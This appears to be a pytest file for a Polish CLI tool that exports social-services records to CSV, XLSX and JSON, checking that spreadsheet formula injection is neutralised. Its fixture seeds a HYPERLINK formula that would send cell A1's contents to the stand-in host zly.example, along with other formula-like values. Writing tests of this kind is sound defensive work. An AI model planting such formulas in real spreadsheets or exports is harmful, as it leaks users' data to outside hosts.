"""`kooperacje eksport`: CSV for Polish Excel, XLSX, JSON; formula injection neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
import stat
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from kooperacje.text import plural
from tests import factories
from tests.conftest import Result

Run = Callable[..., Result]

HOSTILE = '=HYPERLINK("http://zly.example/?"&A1;"Kliknij")'


@pytest.fixture
def conn(db_path: Path) -> Iterator[sqlite3.Connection]:
    connection = factories.connect(db_path)
    pcpr = factories.institution(
        connection, HOSTILE, skrot="PCPR", sektor="rodzina", telefon="+48 44 715 07 95"
    )
    factories.institution(connection, "Miejski Ośrodek Pomocy Społecznej", uwagi="@SUM(1;2)")
    factories.person(connection, pcpr, "Anna Nowak", email="a.nowak@pcpr.pl")
    stamp = "2026-01-01T00:00:00Z"
    connection.execute(
        "INSERT INTO instytucje_telefony (uuid, instytucja, numer, opis, utworzono) "
        "VALUES ('3f1c0d8e-0000-4000-8000-000000000001', ?, '+48 514 717 195', '=komórka', ?)",
        (pcpr, stamp),
    )
    connection.execute(
        "INSERT INTO instytucje_biura (uuid, instytucja, nazwa, adres, kod_pocztowy, "
        "miejscowosc, telefon, utworzono, zmieniono) VALUES "
        "('3f1c0d8e-0000-4000-8000-000000000002', ?, 'piecza zastępcza', "
        "'ul. Piastowska 21', '97-500', 'Radomsko', NULL, ?, ?)",
        (pcpr, stamp, stamp),
    )
    connection.commit()
    team = factories.team(connection)
    factories.meeting(connection, team, "2019-09-25", "Muzeum Regionalne")
    factories.declaration(connection, team, pcpr, "2019-10-09", podpisal="-Anna Nowak")
    factories.service(
        connection,
        pcpr,
        "Poradnictwo rodzinne",
        "wspieranie_rodziny",
        zasieg=("1012011", "1012"),
        grupy=("rodziny", "dzieci_mlodziez"),
    )
    yield connection
    connection.close()


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_csv_is_what_polish_excel_opens_and_formulas_are_text(
    run: Run, conn: sqlite3.Connection, tmp_path: Path
) -> None:
    target = tmp_path / "instytucje.csv"
    result = run("eksport", "instytucje", "-o", str(target))
    assert result.exit_code == 0, result.stderr
    assert result.stdout == f"Zapisano 2 wiersze w pliku {target}.\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    data = target.read_bytes()
    assert b"\r\n" in data
    rows = _csv_rows(data)
    assert rows[0][:6] == ["Nr", "UUID", "Nazwa", "Skrót", "Sektor", "Gmina"]
    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert by_name["1"]["Nazwa"] == "'" + HOSTILE
    # A phone number holds nothing a spreadsheet could run: no apostrophe in front of it.
    assert by_name["1"]["Telefon"] == "+48 44 715 07 95"
    assert by_name["2"]["Uwagi"] == "'@SUM(1;2)"
    assert by_name["2"]["Nazwa"] == "Miejski Ośrodek Pomocy Społecznej"


@pytest.mark.parametrize(
    "name",
    ["instytucje", "telefony", "biura", "osoby", "zespoly", "spotkania", "deklaracje", "uslugi"],
)
def test_every_table_exports_in_every_format(
    run: Run, conn: sqlite3.Connection, tmp_path: Path, name: str
) -> None:
    from openpyxl import load_workbook

    as_json = run("eksport", name, "-f", "json")
    assert as_json.exit_code == 0, as_json.stderr
    records = json.loads(as_json.stdout)
    assert len(records) >= 1
    as_csv = run("eksport", name)
    assert as_csv.exit_code == 0
    rows = _csv_rows(as_csv.stdout.encode("utf-8"))
    assert len(rows) == 1 + len(records)
    target = tmp_path / f"{name}.xlsx"
    assert run("eksport", name, "-f", "xlsx", "-o", str(target)).exit_code == 0
    sheet = load_workbook(target).active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == rows[0]
    # XLSX keeps every value exactly (no apostrophes needed, no formulas); numbers,
    # dates and hours are values of their own kind, shown as text here to compare.
    for record, row in zip(records, values[1:], strict=True):
        assert [_as_text(v) for v in row] == [_as_text(v) for v in record.values()]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s", "n", "d"} and "f" not in kinds


def _as_text(value: object) -> str:
    if isinstance(value, dt.datetime):
        return value.date().isoformat() if value.time() == dt.time() else value.isoformat()
    if isinstance(value, dt.time):
        return value.strftime("%H:%M")
    return "" if value is None else str(value)


# The columns of each export that XLSX holds as numbers (n) or dates and hours (d);
# every other column is text (s), codes that look like numbers included.
XLSX_TYPES = {
    "instytucje": {"Nr": "n"},
    "telefony": {"Nr": "n", "Instytucja nr": "n"},
    "biura": {"Nr": "n", "Instytucja nr": "n"},
    "osoby": {"Nr": "n", "Instytucja nr": "n"},
    "zespoly": {"Nr": "n", "Instytucja wiodąca nr": "n", "Data utworzenia": "d"},
    "spotkania": {"Nr": "n", "Zespół nr": "n", "Data": "d", "Godzina": "d"},
    "deklaracje": {
        "Nr": "n", "Zespół nr": "n", "Instytucja nr": "n", "Data": "d", "Spotkanie nr": "n",
    },
    "uslugi": {
        "Nr": "n", "Instytucja nr": "n", "Wiek od": "n", "Wiek do": "n", "Zweryfikowano": "d",
    },
}  # fmt: skip


def test_xlsx_cells_have_the_type_of_their_column(
    run: Run, conn: sqlite3.Connection, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    conn.execute(
        "UPDATE instytucje SET gmina = '0410013', kod_pocztowy = '09-100', nip = '7721796412', "
        "regon = '590648468', telefon = '+48 44 715 07 95' WHERE id = 1"
    )
    conn.execute("UPDATE zespoly SET data_utworzenia = '2019-09-25', lider = 1")
    conn.execute("UPDATE spotkania SET godzina = '10:00'")
    conn.execute("UPDATE deklaracje SET spotkanie = 1")
    conn.execute(
        "UPDATE uslugi SET wiek_od = 3, wiek_do = 18, zweryfikowano = '2020-01-31', "
        "kontakt_telefon = '44 683 20 06', kod_pocztowy = '97-500', bezplatna = 1"
    )
    for name, typed in XLSX_TYPES.items():
        target = tmp_path / f"{name}.xlsx"
        assert run("eksport", name, "-f", "xlsx", "-o", str(target)).exit_code == 0
        sheet = load_workbook(target).active
        assert sheet is not None
        header, first = list(sheet.iter_rows())[:2]
        assert all(cell.data_type == "s" for cell in header)
        kinds = {h.value: c.data_type for h, c in zip(header, first, strict=True) if c.value}
        # Every typed column has a value in the first row: each type is really checked.
        assert set(typed) <= set(kinds), name
        assert kinds == {h: typed.get(str(h), "s") for h in kinds}, name
        for cell in first:
            if cell.data_type == "d":
                assert cell.number_format in ("dd.mm.yyyy", "hh:mm"), (name, cell.coordinate)
    institutions = load_workbook(tmp_path / "instytucje.xlsx").active
    assert institutions is not None
    row = {h.value: c.value for h, c in zip(institutions[1], institutions[2], strict=True)}
    # Codes stay text, leading zeros and all; numbers and dates are values.
    assert row["Gmina"] == "0410013" and row["Kod pocztowy"] == "09-100"
    assert row["NIP"] == "7721796412" and row["REGON"] == "590648468"
    assert row["Telefon"] == "+48 44 715 07 95" and row["Nr"] == 1
    services = load_workbook(tmp_path / "uslugi.xlsx").active
    assert services is not None
    row = {h.value: c.value for h, c in zip(services[1], services[2], strict=True)}
    assert row["Zweryfikowano"] == dt.datetime(2020, 1, 31)
    assert (row["Wiek od"], row["Wiek do"]) == (3, 18)
    # Free or paid: the words the import reads back, not TRUE/FALSE.
    assert row["Bezpłatna"] == "bezpłatna"
    assert row["Zasięg"] == "1012, 1012011" and row["Telefon kontaktowy"] == "44 683 20 06"
    meetings = load_workbook(tmp_path / "spotkania.xlsx").active
    assert meetings is not None
    row = {h.value: c.value for h, c in zip(meetings[1], meetings[2], strict=True)}
    assert row["Data"] == dt.datetime(2019, 9, 25) and row["Godzina"] == dt.time(10, 0)


def test_xlsx_keeps_a_malformed_value_as_text(
    run: Run, conn: sqlite3.Connection, tmp_path: Path
) -> None:
    """A value changed outside the tool (Datasette, sqlite3) is exported as it is."""
    from openpyxl import load_workbook

    conn.execute("UPDATE spotkania SET godzina = 'rano'")
    target = tmp_path / "spotkania.xlsx"
    assert run("eksport", "spotkania", "-f", "xlsx", "-o", str(target)).exit_code == 0
    sheet = load_workbook(target).active
    assert sheet is not None
    assert sheet["E2"].value == "rano" and sheet["E2"].data_type == "s"


def test_services_carry_groups_and_reach(run: Run, conn: sqlite3.Connection) -> None:
    records = json.loads(run("eksport", "uslugi", "-f", "json").stdout)
    assert records[0]["grupy"] == "dzieci_mlodziez, rodziny"
    assert records[0]["zasieg"] == "1012, 1012011"
    deklaracje = _csv_rows(run("eksport", "deklaracje").stdout.encode())
    assert "'-Anna Nowak" in deklaracje[1]


def test_further_phones_and_offices_with_their_institution(
    run: Run, conn: sqlite3.Connection
) -> None:
    phones = _csv_rows(run("eksport", "telefony").stdout.encode("utf-8"))
    assert phones == [
        ["Nr", "UUID", "Instytucja nr", "Instytucja", "Numer", "Opis"],
        [
            "1",
            "3f1c0d8e-0000-4000-8000-000000000001",
            "1",
            "'" + HOSTILE,
            "+48 514 717 195",
            "'=komórka",  # a formula in a label stays text
        ],
    ]
    offices = json.loads(run("eksport", "biura", "-f", "json").stdout)
    assert offices == [
        {
            "nr": 1,
            "uuid": "3f1c0d8e-0000-4000-8000-000000000002",
            "instytucja": 1,
            "instytucja_nazwa": HOSTILE,
            "nazwa": "piecza zastępcza",
            "adres": "ul. Piastowska 21",
            "kod_pocztowy": "97-500",
            "miejscowosc": "Radomsko",
            "telefon": None,
        }
    ]


def test_xlsx_needs_a_file(run: Run, conn: sqlite3.Connection) -> None:
    result = run("eksport", "instytucje", "-f", "xlsx")
    assert result.exit_code == 1
    assert "Dodaj opcję -o PLIK.xlsx" in result.stderr


def test_unknown_table_and_format_are_usage_errors(run: Run, conn: sqlite3.Connection) -> None:
    assert run("eksport", "klienci").exit_code == 2
    result = run("eksport", "instytucje", "-f", "pdf")
    assert result.exit_code == 2
    assert result.stderr.startswith("Błąd: ")


def test_unwritable_target(run: Run, conn: sqlite3.Connection, tmp_path: Path) -> None:
    result = run("eksport", "instytucje", "-o", str(tmp_path))
    assert result.exit_code == 1
    assert "jest katalogiem" in result.stderr


def test_plural() -> None:
    assert [plural(n, "wiersz", "wiersze", "wierszy") for n in (0, 1, 2, 5, 12, 22, 25)] == [
        "0 wierszy",
        "1 wiersz",
        "2 wiersze",
        "5 wierszy",
        "12 wierszy",
        "22 wiersze",
        "25 wierszy",
    ]
